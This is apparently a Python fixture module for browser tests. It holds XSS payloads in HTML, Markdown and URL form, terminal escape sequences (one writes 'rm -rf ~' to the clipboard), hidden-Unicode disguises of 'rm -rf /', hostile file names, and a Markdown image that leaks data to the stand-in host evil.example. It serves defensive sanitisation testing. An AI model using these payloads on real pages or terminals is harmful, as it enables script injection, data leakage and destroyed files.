"""Words that would do harm if anything of the page took them for more than words (FM-38, FM-49 to FM-52).

Every payload that could run sets `window.__xss` or asks for something from `evil.example`: tests put payloads where
people's, models', tools' and files' words are shown, then look by `unharmed` whether any of it came to life.
"""

from typing import Final

from playwright.async_api import Page

BAIT: Final = "https://evil.example"
RUN: Final = "window.__xss=1"

MARKUP: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={BAIT}/x.js></sCrIpT>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={BAIT}/a.png>",
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}></svg>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    f"<object data={BAIT}/x.swf></object><embed src={BAIT}/x.swf>",
    f"<link rel=stylesheet href={BAIT}/x.css><style>@import '{BAIT}/y.css';</style>",
    f"<style>*{{background:url({BAIT}/z.png)}}</style>",
    f"<base href={BAIT}/><form action={BAIT}/post><input name=x autofocus onfocus={RUN}></form>",
    f"<meta http-equiv=refresh content='0;url={BAIT}/'>",
    f"<details open ontoggle={RUN}><summary>look</summary></details>",
    f"<video><source onerror={RUN}></video><audio src={BAIT}/a.mp3 autoplay></audio>",
    f"<body onload={RUN}><marquee onstart={RUN}>news</marquee>",
    f"<a href=javascript:{RUN}>click</a>",
    f"<!-- --!><img src=x onerror={RUN}> --><!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f'"><img src=x onerror={RUN}>',
    f"' autofocus onfocus={RUN} x='",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    f"{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}<%= {RUN} %>",
)
"""Pieces of HTML, whole and broken."""

MARKDOWN: Final = (
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt&colon;{RUN})",
    f"[click](\x01javascript:{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)",
    f"[click](vbscript:{RUN})",
    f"<javascript:{RUN}>",
    f"![picture]({BAIT}/leak.png?secret=1)",
    f'![picture](x "onerror={RUN}"){{onerror={RUN}}}',
    f"![svg](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='{RUN}'/%3E)",
    f"[ref]: javascript:{RUN}\n\n[ref]",
    f'```mermaid\ngraph TD; A[<img src=x onerror={RUN}>]-->B; click A href "javascript:{RUN}"\n```',
    f"$$\\href{{javascript:{RUN}}}{{x}}\\includegraphics{{{BAIT}/k.png}}$$",
)
"""Links, pictures and fences of Markdown."""

ADDRESSES: Final = (
    f"javascript:{RUN}",
    f"JaVa\tScRiPt:{RUN}",
    f" \x01javascript:{RUN}",
    f"javascript://{BAIT}/%0a{RUN}",
    "data:text/html,<script>parent.__xss=1</script>",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "intent://evil.example#Intent;end",
)
"""Where a link must not lead: each is a whole address."""

TERMINAL: Final = (
    f"\x1b]8;;javascript:{RUN}\x1b\\link\x1b]8;;\x1b\\",
    f"\x1b]8;;{BAIT}/osc8\x07link\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1b]0;a title that is not the page's\x07",
    "\x1b[2J\x1b[1;1H\x1b[8mhidden\x1b[0m shown",
    "safe command\r\x1b[2Kevil command",
    f"\x1b[31m<img src=x onerror={RUN}>\x1b[0m",
    "\x1bP1;1|17/ab\x1b\\\x1b_Gi=1;AAAA\x1b\\",
)
"""What a terminal would obey: links, the clipboard, titles, hiding, overwriting."""

HIDDEN: Final = (
    "rm -rf \u202e/ tmp\u202c # safe",
    "ls\u200b\u200c\u200d\u2060\ufeff -la",
    "access = '\u2066user\u2069 \u2066// admin\u2069'",
    "echo\u00a0hi\u2028rm -rf /",
    "cat \u034f\u115f\u3164file",
    "tag\U000e0041\U000e0042\U000e007f",
    "a\u0000b\u0007c\u0008d\u007fe",
)
"""Characters nobody sees, or that turn text around."""

ALL: Final = (*MARKUP, *MARKDOWN, *ADDRESSES, *TERMINAL, *HIDDEN)

FILE_NAMES: Final = (
    f"<img src=x onerror={RUN}>.txt",
    "\u202egpj.exe",
    "zero\u200bwidth.py",
    "'; window.__xss=1; '.js",
    "javascript:window.__xss=1",
    "two\nlines.md",
    "\x1b[31mred.txt",
    "[click](javascript:window.__xss=1).md",
    "--flag.md",
)
"""Names a file system takes. A slash would be a directory's."""


async def unharmed(page: Page) -> list[str]:
    """What came to life of the payloads, one line each; nothing if all is well."""
    found: list[str] = await page.evaluate(
        """() => {
            const bad = [];
            if (window.__xss !== undefined) bad.push('a script ran');
            for (const each of document.querySelectorAll('*')) {
                for (const { name, value } of each.attributes) {
                    if (name.startsWith('on')) bad.push(`handler: ${each.tagName} ${name}`);
                    const address = /^(href|src|action|data|formaction|xlink:href|srcdoc)$/.test(name);
                    if (address && /^[\\s\\x00-\\x1f]*(javascript|vbscript|data:text)/i.test(value))
                        bad.push(`address: ${each.tagName} ${name}=${value}`);
                    if (/^(src|srcset|data|poster)$/.test(name) && value.includes('evil.example'))
                        bad.push(`loads: ${each.tagName} ${name}=${value}`);
                }
            }
            const inside = document.getElementById('page') ?? document.body;
            const never = 'script,iframe,object,embed,base,form[action],style,link,meta,math,video,audio,marquee,use';
            for (const each of inside.querySelectorAll(never)) bad.push(`element: ${each.outerHTML.slice(0, 120)}`);
            for (const each of inside.querySelectorAll('a[href]')) {
                const outside = !each.href.startsWith(location.origin);
                if (outside && !/noopener/.test(each.rel)) bad.push(`link without noopener: ${each.href}`);
                if (outside && !/^(https?|mailto):/.test(each.href)) bad.push(`link: ${each.href}`);
            }
            if (document.title.includes('a title that is not')) bad.push('the title was changed');
            return bad;
        }"""
    )
    return found
